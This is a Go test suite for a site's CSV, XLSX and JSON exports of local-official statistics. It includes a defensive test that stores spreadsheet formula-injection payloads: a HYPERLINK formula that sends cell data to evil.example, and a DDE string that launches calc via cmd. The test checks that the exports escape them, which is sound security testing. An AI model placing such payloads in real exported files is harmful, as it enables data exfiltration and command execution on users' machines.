package public_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"math"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/xuri/excelize/v2"

	"github.com/cadrestats/cadrestats/internal/export"
	"github.com/cadrestats/cadrestats/internal/i18n"
	"github.com/cadrestats/cadrestats/internal/pgtest"
	"github.com/cadrestats/cadrestats/internal/postgres"
	"github.com/cadrestats/cadrestats/internal/server"
	"github.com/cadrestats/cadrestats/internal/stats"
)

const bom = "\uFEFF"

var exportDay = time.Date(2024, time.May, 6, 15, 4, 5, 0, time.UTC)

// exportServer serves the given database with a fixed clock.
func exportServer(tb testing.TB, pool *pgxpool.Pool) *server.Server {
	tb.Helper()
	catalog, err := i18n.Load()
	if err != nil {
		tb.Fatal(err)
	}
	db := postgres.New(pool)
	srv, err := server.New(server.Config{Stats: stats.NewService(db), Catalog: catalog, Versions: db,
		Now: func() time.Time { return exportDay }})
	if err != nil {
		tb.Fatal(err)
	}
	return srv
}

func exportGet(srv http.Handler, target string) *httptest.ResponseRecorder {
	rec := httptest.NewRecorder()
	srv.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, target, nil))
	return rec
}

// csvRecords parses an export, BOM included, and returns its rows after
// checking the header.
func csvRecords(t *testing.T, body []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(body, []byte(bom)) {
		t.Fatalf("CSV does not start with a BOM: %q", body[:min(len(body), 20)])
	}
	recs, err := csv.NewReader(bytes.NewReader(body[len(bom):])).ReadAll()
	if err != nil {
		t.Fatalf("parse CSV: %v", err)
	}
	if len(recs) == 0 || !slices.Equal(recs[0], export.Columns) {
		t.Fatalf("CSV header = %v, want %v", recs[:min(len(recs), 1)], export.Columns)
	}
	return recs[1:]
}

func ids(t *testing.T, recs [][]string) []int {
	t.Helper()
	var out []int
	for _, r := range recs {
		n, err := strconv.Atoi(r[0])
		if err != nil {
			t.Fatalf("id %q: %v", r[0], err)
		}
		out = append(out, n)
	}
	return out
}

func TestExportCSV(t *testing.T) {
	srv := exportServer(t, pgtest.NewSeededDB(t))

	t.Run("OK", func(t *testing.T) {
		rec := exportGet(srv, "/export.csv")
		if rec.Code != http.StatusOK {
			t.Fatalf("status %d: %s", rec.Code, rec.Body)
		}
		want, err := os.ReadFile("../../../seed/figures.csv")
		if err != nil {
			t.Fatal(err)
		}
		if got := rec.Body.String(); got != bom+string(want) {
			gl, wl := strings.Split(got, "\n"), strings.Split(bom+string(want), "\n")
			for i := range min(len(gl), len(wl)) {
				if gl[i] != wl[i] {
					t.Fatalf("line %d differs from seed/figures.csv:\ngot  %q\nwant %q", i+1, gl[i], wl[i])
				}
			}
			t.Fatalf("export has %d lines, seed/figures.csv %d", len(gl), len(wl))
		}
		h := rec.Header()
		if got, want := h.Get("Content-Disposition"), `attachment; filename="cadrestats-figures-2024-05-06.csv"`; got != want {
			t.Errorf("Content-Disposition = %q, want %q", got, want)
		}
		if got := h.Get("Content-Type"); got != "text/csv; charset=utf-8" {
			t.Errorf("Content-Type = %q", got)
		}
	})

	t.Run("Filter", func(t *testing.T) {
		tests := []struct {
			query string
			want  []int
		}{
			{"locality=dien-bien", []int{45, 46, 47, 48, 49, 50, 51}},
			{"locality=dien-bien&sort=id&dir=desc", []int{51, 50, 49, 48, 47, 46, 45}},
		}
		for _, tt := range tests {
			rec := exportGet(srv, "/export.csv?"+tt.query)
			if rec.Code != http.StatusOK {
				t.Fatalf("%s: status %d: %s", tt.query, rec.Code, rec.Body)
			}
			if got := ids(t, csvRecords(t, rec.Body.Bytes())); !slices.Equal(got, tt.want) {
				t.Errorf("%s: ids %v, want %v", tt.query, got, tt.want)
			}
		}
	})

	t.Run("ErrUnknownLocality", func(t *testing.T) {
		for _, tt := range []struct{ query, want string }{
			{"locality=atlantis", "Không có địa phương này."},
			{"locality=atlantis&lang=en", "No such locality."},
		} {
			rec := exportGet(srv, "/export.csv?"+tt.query)
			if rec.Code != http.StatusBadRequest {
				t.Errorf("%s: status %d, want 400", tt.query, rec.Code)
			}
			if body := rec.Body.String(); !strings.Contains(body, tt.want) || !strings.Contains(body, "atlantis") {
				t.Errorf("%s: body %q, want it to contain %q and the slug", tt.query, body, tt.want)
			}
			if cd := rec.Header().Get("Content-Disposition"); cd != "" {
				t.Errorf("%s: an error is not a download, Content-Disposition = %q", tt.query, cd)
			}
		}
	})
}

// openXLSX fetches /export.xlsx and opens the workbook.
func openXLSX(t *testing.T, srv http.Handler, query string) *excelize.File {
	t.Helper()
	rec := exportGet(srv, "/export.xlsx"+query)
	if rec.Code != http.StatusOK {
		t.Fatalf("/export.xlsx%s: status %d: %s", query, rec.Code, rec.Body)
	}
	f, err := excelize.OpenReader(rec.Body)
	if err != nil {
		t.Fatalf("open workbook: %v", err)
	}
	t.Cleanup(func() { _ = f.Close() })
	return f
}

func col(name string) int { return slices.Index(export.Columns, name) + 1 }

func cellRef(t *testing.T, name string, row int) string {
	t.Helper()
	ref, err := excelize.CoordinatesToCellName(col(name), row)
	if err != nil {
		t.Fatal(err)
	}
	return ref
}

func TestExportXLSX(t *testing.T) {
	srv := exportServer(t, pgtest.NewSeededDB(t))

	t.Run("Headers", func(t *testing.T) {
		rec := exportGet(srv, "/export.xlsx")
		h := rec.Header()
		if got, want := h.Get("Content-Type"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"; got != want {
			t.Errorf("Content-Type = %q, want %q", got, want)
		}
		if got, want := h.Get("Content-Disposition"), `attachment; filename="cadrestats-figures-2024-05-06.xlsx"`; got != want {
			t.Errorf("Content-Disposition = %q, want %q", got, want)
		}
		if !bytes.HasPrefix(rec.Body.Bytes(), []byte("PK\x03\x04")) {
			t.Errorf("body is not a zip archive: %q", rec.Body.Bytes()[:min(rec.Body.Len(), 8)])
		}
	})

	t.Run("Figures", func(t *testing.T) {
		f := openXLSX(t, srv, "")
		if got, want := f.GetSheetList(), []string{"Số liệu", "Nguồn"}; !slices.Equal(got, want) {
			t.Fatalf("sheets %v, want %v", got, want)
		}
		if i := f.GetActiveSheetIndex(); i != 0 {
			t.Errorf("workbook opens on sheet %d, want the figures", i)
		}
		const sheet = "Số liệu"
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 52 {
			t.Fatalf("%d rows, want a header and 51 figures", len(rows))
		}
		if !slices.Equal(rows[0], export.Columns) {
			t.Errorf("header %v, want %v", rows[0], export.Columns)
		}
		panes, err := f.GetPanes(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
			t.Errorf("panes %+v, want the header row frozen", panes)
		}
		if w, err := f.GetColWidth(sheet, "P"); err != nil || w < 40 {
			t.Errorf("quote column width %v (%v), want a wide column", w, err)
		}

		// The seed CSV is the reference for every cell's value.
		want, err := os.ReadFile("../../../seed/figures.csv")
		if err != nil {
			t.Fatal(err)
		}
		seedRecs := csvRecords(t, append([]byte(bom), want...))
		for i, rec := range seedRecs {
			row := i + 2
			for j, name := range export.Columns {
				ref := cellRef(t, name, row)
				typ, err := f.GetCellType(sheet, ref)
				if err != nil {
					t.Fatal(err)
				}
				raw, err := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
				if err != nil {
					t.Fatal(err)
				}
				switch name {
				case "id", "value", "denominator", "parent_id", "sub_units_id", "base_id":
					if rec[j] == "" {
						if raw != "" {
							t.Errorf("%s: %s = %q, want empty", ref, name, raw)
						}
						continue
					}
					if typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
						t.Errorf("%s: %s has type %v, want a number", ref, name, typ)
					}
					if raw != rec[j] {
						t.Errorf("%s: %s = %q, want %q", ref, name, raw, rec[j])
					}
				case "target":
					// A true spreadsheet boolean: filters offer TRUE and FALSE.
					want := map[string]string{"false": "0", "true": "1"}[rec[j]]
					if typ != excelize.CellTypeBool || raw != want {
						t.Errorf("%s: %s = %q (type %v), want boolean %s", ref, name, raw, typ, rec[j])
					}
				case "period_start", "period_end", "source_published":
					d, err := time.Parse(time.DateOnly, rec[j])
					if err != nil {
						t.Fatal(err)
					}
					serial, err := strconv.ParseFloat(raw, 64)
					if err != nil {
						t.Errorf("%s: %s = %q, want a date serial number", ref, name, raw)
						continue
					}
					if got, _ := excelize.ExcelDateToTime(serial, false); !got.Equal(d) {
						t.Errorf("%s: %s = %v, want %v", ref, name, got, d)
					}
					shown, _ := f.GetCellValue(sheet, ref)
					if want := d.Format("02/01/2006"); shown != want {
						t.Errorf("%s: %s shows %q, want %q", ref, name, shown, want)
					}
				default:
					if rec[j] == "" {
						if raw != "" {
							t.Errorf("%s: %s = %q, want empty", ref, name, raw)
						}
						continue
					}
					if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
						t.Errorf("%s: %s has type %v, want text", ref, name, typ)
					}
					if raw != rec[j] {
						t.Errorf("%s: %s = %q, want %q", ref, name, raw, rec[j])
					}
				}
			}
		}
	})

	t.Run("Sources", func(t *testing.T) {
		f := openXLSX(t, srv, "")
		rows, err := f.GetRows("Nguồn")
		if err != nil {
			t.Fatal(err)
		}
		// The seed has six sources; Quảng Bình's article backs findings
		// only, so the sheet lists the five the figures cite, oldest first.
		var keys []string
		for _, r := range rows[1:] {
			keys = append(keys, r[0])
		}
		wantKeys := []string{"tien-lang-2016-09-28", "dien-bien-2018-10-03", "mong-cai-2020-02-15", "song-lo-2020-10-28",
			"congan-dien-bien-2024-09-04"}
		if !slices.Equal(keys, wantKeys) {
			t.Fatalf("source keys %v, want %v", keys, wantKeys)
		}
		if !slices.Equal(rows[0], export.SourceColumns) {
			t.Errorf("header %v, want %v", rows[0], export.SourceColumns)
		}
		total := 0
		for _, r := range rows[1:] {
			n, err := strconv.Atoi(r[6])
			if err != nil {
				t.Errorf("figures count %q: %v", r[6], err)
			}
			total += n
		}
		if total != 51 {
			t.Errorf("sources cite %d figures in all, want 51", total)
		}
		if got, want := rows[2], []string{"dien-bien-2018-10-03", "Xây dựng Đảng là nhiệm vụ then chốt", "Báo Điện Biên Phủ",
			"Minh Thùy", "03/10/2018", "", "6"}; !slices.Equal(got, want) {
			t.Errorf("Điện Biên's source row %q, want %q", got, want)
		}
		typ, _ := f.GetCellType("Nguồn", "G3")
		if typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
			t.Errorf("figures count has type %v, want a number", typ)
		}
		if p, err := f.GetPanes("Nguồn"); err != nil || !p.Freeze {
			t.Errorf("sources header not frozen: %+v %v", p, err)
		}
	})

	t.Run("English", func(t *testing.T) {
		f := openXLSX(t, srv, "?lang=en&locality=dien-bien")
		if got, want := f.GetSheetList(), []string{"Figures", "Sources"}; !slices.Equal(got, want) {
			t.Fatalf("sheets %v, want %v", got, want)
		}
		rows, _ := f.GetRows("Figures")
		if len(rows) != 8 {
			t.Errorf("%d rows for Điện Biên, want 8", len(rows))
		}
		if shown, _ := f.GetCellValue("Figures", cellRef(t, "source_published", 2)); shown != "2018-10-03" {
			t.Errorf("English date shows %q, want 2018-10-03", shown)
		}
		src, _ := f.GetRows("Sources")
		if len(src) != 3 || src[1][6] != "6" || src[2][6] != "1" {
			t.Errorf("sources for Điện Biên: %v, want the article citing 6 figures and the count of its districts", src)
		}
	})

	t.Run("ErrUnknownLocality", func(t *testing.T) {
		rec := exportGet(srv, "/export.xlsx?locality=atlantis")
		if rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), "Không có địa phương này.") {
			t.Errorf("status %d, body %q: want 400 with a Vietnamese message", rec.Code, rec.Body)
		}
		if cd := rec.Header().Get("Content-Disposition"); cd != "" {
			t.Errorf("an error is not a download, Content-Disposition = %q", cd)
		}
	})
}

// TestExportFormulaInjection stores text a spreadsheet would run as a
// formula and checks that no export lets it.
func TestExportFormulaInjection(t *testing.T) {
	pool := pgtest.NewSeededDB(t)
	const (
		hyperlink = `=HYPERLINK("http://evil.example/?d="&A1,"bấm vào đây")`
		minus     = "-2+3"
		atSum     = "@SUM(1+1)*cmd|' /C calc'!A0"
	)
	var id1, id2 int64
	err := pool.QueryRow(t.Context(), `INSERT INTO figures
			(locality_id, category, subject, value, unit, period_start, period_end, source_id, quote)
		SELECT l.id, 'appointment', $1, 7.5, 'persons', '2017-01-01', '2017-12-31', s.id, $2
		FROM localities l, sources s WHERE l.slug = 'dien-bien' AND s.key = 'dien-bien-2018-10-03'
		RETURNING id`, hyperlink, atSum).Scan(&id1)
	if err != nil {
		t.Fatal(err)
	}
	err = pool.QueryRow(t.Context(), `INSERT INTO figures
			(locality_id, category, subject, value, unit, period_start, period_end, source_id, quote)
		SELECT l.id, 'appointment', $1, 3, 'persons', '2017-01-01', '2017-12-31', s.id, $1
		FROM localities l, sources s WHERE l.slug = 'dien-bien' AND s.key = 'dien-bien-2018-10-03'
		RETURNING id`, minus).Scan(&id2)
	if err != nil {
		t.Fatal(err)
	}
	srv := exportServer(t, pool)
	const query = "?locality=dien-bien&sort=id&dir=desc"

	t.Run("CSV", func(t *testing.T) {
		recs := csvRecords(t, exportGet(srv, "/export.csv"+query).Body.Bytes())
		want := map[int64][3]string{id1: {"'" + hyperlink, "7.5", "'" + atSum}, id2: {"'" + minus, "3", "'" + minus}}
		for _, r := range recs[:2] {
			id, _ := strconv.ParseInt(r[0], 10, 64)
			w := want[id]
			got := [3]string{r[col("subject")-1], r[col("value")-1], r[col("quote")-1]}
			if got != w {
				t.Errorf("figure %d: subject, value, quote = %q, want %q", id, got, w)
			}
		}
	})

	t.Run("XLSX", func(t *testing.T) {
		f := openXLSX(t, srv, query)
		const sheet = "Số liệu"
		for row, want := range map[int][2]string{2: {minus, minus}, 3: {hyperlink, atSum}} {
			for i, name := range []string{"subject", "quote"} {
				ref := cellRef(t, name, row)
				typ, _ := f.GetCellType(sheet, ref)
				formula, _ := f.GetCellFormula(sheet, ref)
				raw, _ := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
				if typ != excelize.CellTypeInlineString || formula != "" || raw != want[i] {
					t.Errorf("%s (%s): type %v, formula %q, text %q; want a string cell reading %q", ref, name, typ, formula, raw, want[i])
				}
			}
		}
		ref := cellRef(t, "value", 3)
		typ, _ := f.GetCellType(sheet, ref)
		raw, _ := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
		if (typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset) || raw != "7.5" {
			t.Errorf("%s value: type %v, %q; want the number 7.5", ref, typ, raw)
		}
	})

	t.Run("JSON", func(t *testing.T) {
		var got apiAnswer
		decodeAPI(t, exportGet(srv, "/api/figures"+query), &got)
		if f := got.Figures[1]; f["subject"] != hyperlink || f["quote"] != atSum || f["value"] != 7.5 {
			t.Errorf("JSON keeps text as typed: got subject %q, quote %q, value %v", f["subject"], f["quote"], f["value"])
		}
	})
}

type apiAnswer struct {
	Total       int              `json:"total"`
	TotalCapped bool             `json:"total_capped"`
	Limit       int              `json:"limit"`
	Offset      int              `json:"offset"`
	Next        *string          `json:"next"`
	Figures     []map[string]any `json:"figures"`
}

type apiError struct {
	Error   string   `json:"error"`
	Details []string `json:"details"`
}

func decodeAPI(t *testing.T, rec *httptest.ResponseRecorder, v any) {
	t.Helper()
	if ct := rec.Header().Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
		t.Errorf("Content-Type = %q, want JSON", ct)
	}
	dec := json.NewDecoder(rec.Body)
	dec.DisallowUnknownFields()
	if err := dec.Decode(v); err != nil {
		t.Fatalf("decode %T: %v", v, err)
	}
}

func figureIDs(figs []map[string]any) []int {
	var out []int
	for _, f := range figs {
		out = append(out, int(f["id"].(float64)))
	}
	return out
}

func TestAPIFigures(t *testing.T) {
	srv := exportServer(t, pgtest.NewSeededDB(t))

	t.Run("OK", func(t *testing.T) {
		rec := exportGet(srv, "/api/figures")
		if rec.Code != http.StatusOK {
			t.Fatalf("status %d: %s", rec.Code, rec.Body)
		}
		body := rec.Body.Bytes()
		var got apiAnswer
		decodeAPI(t, rec, &got)
		if got.Total != 51 || got.Limit != 100 || got.Offset != 0 || len(got.Figures) != 51 {
			t.Fatalf("total %d, limit %d, offset %d, %d figures; want 51, 100, 0, 51",
				got.Total, got.Limit, got.Offset, len(got.Figures))
		}
		// Fields come in the export's column order, then period and source.
		dec := json.NewDecoder(bytes.NewReader(body))
		for range 13 { // {, "total", 50, "total_capped", false, "limit", 100, "offset", 0, "next", null, "figures", [
			if _, err := dec.Token(); err != nil {
				t.Fatal(err)
			}
		}
		var keys []string
		for depth := 0; ; {
			tok, err := dec.Token()
			if err != nil {
				t.Fatal(err)
			}
			if d, ok := tok.(json.Delim); ok {
				if d == '{' || d == '[' {
					depth++
				} else {
					depth--
				}
				if depth == 0 {
					break
				}
				continue
			}
			if depth == 1 {
				keys = append(keys, tok.(string))
				if _, err := dec.Token(); err != nil { // the value (or an object's start)
					t.Fatal(err)
				}
				if k := keys[len(keys)-1]; k == "period" || k == "source" {
					depth++
				}
			}
		}
		if want := append(slices.Clone(export.Columns), "period", "source"); !slices.Equal(keys, want) {
			t.Errorf("keys %v, want %v", keys, want)
		}

		// Every column agrees with the CSV export, typed.
		want, err := os.ReadFile("../../../seed/figures.csv")
		if err != nil {
			t.Fatal(err)
		}
		for i, rec := range csvRecords(t, append([]byte(bom), want...)) {
			fig := got.Figures[i]
			for j, name := range export.Columns {
				var s string
				switch v := fig[name].(type) {
				case nil:
				case string:
					s = v
				case float64:
					if name != "id" && name != "value" && name != "denominator" && name != "parent_id" && name != "sub_units_id" && name != "base_id" {
						t.Errorf("figure %s: %s is a number", rec[0], name)
					}
					s = stats.FormatValue(v)
				case bool:
					if name != "target" {
						t.Errorf("figure %s: %s is a boolean", rec[0], name)
					}
					s = strconv.FormatBool(v)
				default:
					t.Errorf("figure %s: %s has type %T", rec[0], name, v)
				}
				if s != rec[j] {
					t.Errorf("figure %s: %s = %q, want %q", rec[0], name, s, rec[j])
				}
			}
		}
		first := got.Figures[0]
		period := first["period"].(map[string]any)
		if period["start"] != "2015-01-01" || period["end"] != "2020-10-28" || period["label"] != "2015–28/10/2020" || period["years"] != 5.0 {
			t.Errorf("period of figure 1: %v", period)
		}
		src := first["source"].(map[string]any)
		if src["key"] != "song-lo-2020-10-28" || src["outlet"] != "Báo Vĩnh Phúc" || src["published"] != "2020-10-28" ||
			src["url"] != nil || math.Mod(src["id"].(float64), 1) != 0 {
			t.Errorf("source of figure 1: %v", src)
		}
	})

	t.Run("Filters", func(t *testing.T) {
		tests := []struct {
			query string
			total int
			ids   []int
		}{
			{"locality=dien-bien", 7, []int{45, 46, 47, 48, 49, 50, 51}},
			{"limit=2&offset=1", 51, []int{2, 3}},
			{"locality=dien-bien&sort=id&dir=desc&limit=3", 7, []int{51, 50, 49}},
			{"offset=1000", 51, nil},
			{"locality=dien-bien&limit=1000", 7, []int{45, 46, 47, 48, 49, 50, 51}},
		}
		for _, tt := range tests {
			t.Run(tt.query, func(t *testing.T) {
				var got apiAnswer
				decodeAPI(t, exportGet(srv, "/api/figures?"+tt.query), &got)
				if got.Total != tt.total || !slices.Equal(figureIDs(got.Figures), tt.ids) {
					t.Errorf("total %d, ids %v; want %d, %v", got.Total, figureIDs(got.Figures), tt.total, tt.ids)
				}
				if got.Figures == nil {
					t.Errorf(`"figures" is null, want []`)
				}
			})
		}
	})

	t.Run("ErrInvalid", func(t *testing.T) {
		tests := []struct {
			query   string
			message string
			details []string
		}{
			{"limit=0", "Yêu cầu không hợp lệ", []string{"limit: Phải là số nguyên từ 1 đến 1000. (0)"}},
			{"limit=1001&offset=-1&lang=en", "Bad request", []string{
				"limit: Must be a whole number from 1 to 1000. (1001)", "offset: Must be a whole number, 0 or more. (-1)"}},
			{"limit=abc&from=2020-13-01", "Yêu cầu không hợp lệ", []string{
				"from: Không đọc được ngày “2020-13-01”: hãy nhập năm (2019) hoặc ngày như 28/10/2020.", "limit: Phải là số nguyên từ 1 đến 1000. (abc)"}},
			{"locality=atlantis", "Yêu cầu không hợp lệ", []string{"locality: Không có địa phương này. (atlantis)"}},
		}
		for _, tt := range tests {
			t.Run(tt.query, func(t *testing.T) {
				rec := exportGet(srv, "/api/figures?"+tt.query)
				if rec.Code != http.StatusBadRequest {
					t.Errorf("status %d, want 400", rec.Code)
				}
				var got apiError
				decodeAPI(t, rec, &got)
				if got.Error != tt.message || !slices.Equal(got.Details, tt.details) {
					t.Errorf("got %+v, want error %q, details %q", got, tt.message, tt.details)
				}
			})
		}
	})
}

// TestExportsAgree: the same query selects the same figures, in the same
// order, in all three formats.
func TestExportsAgree(t *testing.T) {
	srv := exportServer(t, pgtest.NewSeededDB(t))
	for _, query := range []string{
		"category=rotation",
		"locality=dien-bien,song-lo&sort=value&dir=desc",
		"q=" + url.QueryEscape("TRƯỞNG PHÒNG"), // case-folded Vietnamese
		"from=2019&to=2020&sort=period",
		"term=nk-2015-2020&sort=subject",
	} {
		t.Run(query, func(t *testing.T) {
			csvIDs := ids(t, csvRecords(t, exportGet(srv, "/export.csv?"+query).Body.Bytes()))
			if len(csvIDs) == 0 || len(csvIDs) == 50 {
				t.Fatalf("%d figures: the query should select some, not all", len(csvIDs))
			}
			var api apiAnswer
			decodeAPI(t, exportGet(srv, "/api/figures?"+query), &api)
			if got := figureIDs(api.Figures); !slices.Equal(got, csvIDs) || api.Total != len(csvIDs) {
				t.Errorf("JSON ids %v (total %d), CSV ids %v", got, api.Total, csvIDs)
			}
			f := openXLSX(t, srv, "?"+query)
			rows, err := f.GetRows("Số liệu")
			if err != nil {
				t.Fatal(err)
			}
			var xlsxIDs []int
			for _, r := range rows[1:] {
				n, _ := strconv.Atoi(r[0])
				xlsxIDs = append(xlsxIDs, n)
			}
			if !slices.Equal(xlsxIDs, csvIDs) {
				t.Errorf("XLSX ids %v, CSV ids %v", xlsxIDs, csvIDs)
			}
		})
	}
}

// TestExportEmpty: a fresh install, before seeding, exports headers only.
func TestExportEmpty(t *testing.T) {
	srv := exportServer(t, pgtest.NewDB(t))
	if recs := csvRecords(t, exportGet(srv, "/export.csv").Body.Bytes()); len(recs) != 0 {
		t.Errorf("CSV has %d rows, want none", len(recs))
	}
	f := openXLSX(t, srv, "")
	for _, sheet := range []string{"Số liệu", "Nguồn"} {
		if rows, err := f.GetRows(sheet); err != nil || len(rows) != 1 {
			t.Errorf("sheet %s: %d rows (%v), want the header only", sheet, len(rows), err)
		}
	}
	rec := exportGet(srv, "/api/figures")
	if got := strings.TrimSpace(rec.Body.String()); got != `{"total":0,"total_capped":false,"limit":100,"offset":0,"next":null,"figures":[]}` {
		t.Errorf("JSON %s", got)
	}
}
